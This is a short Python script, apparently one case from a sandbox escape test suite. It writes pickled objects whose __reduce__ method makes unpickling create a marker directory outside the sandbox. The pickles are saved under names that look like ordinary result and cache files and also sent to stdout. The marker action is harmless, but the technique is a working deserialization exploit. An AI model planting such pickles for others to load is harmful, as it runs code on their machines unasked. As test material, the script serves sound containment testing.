"""Class 40. Gives a result that runs when it is unpickled.

A breach: it ran.
"""

import os
import pickle
from pathlib import Path
from typing import Any


class Payload:
    def __reduce__(self) -> tuple[Any, ...]:
        return os.mkdir, (os.path.join(os.environ["AIM_OUTSIDE"], "unpickled"),)


for name in ("result.pkl", "result.pickle", "result.bin", "cache.joblib"):
    Path(name).write_bytes(pickle.dumps(Payload()))
os.write(1, pickle.dumps(Payload()))
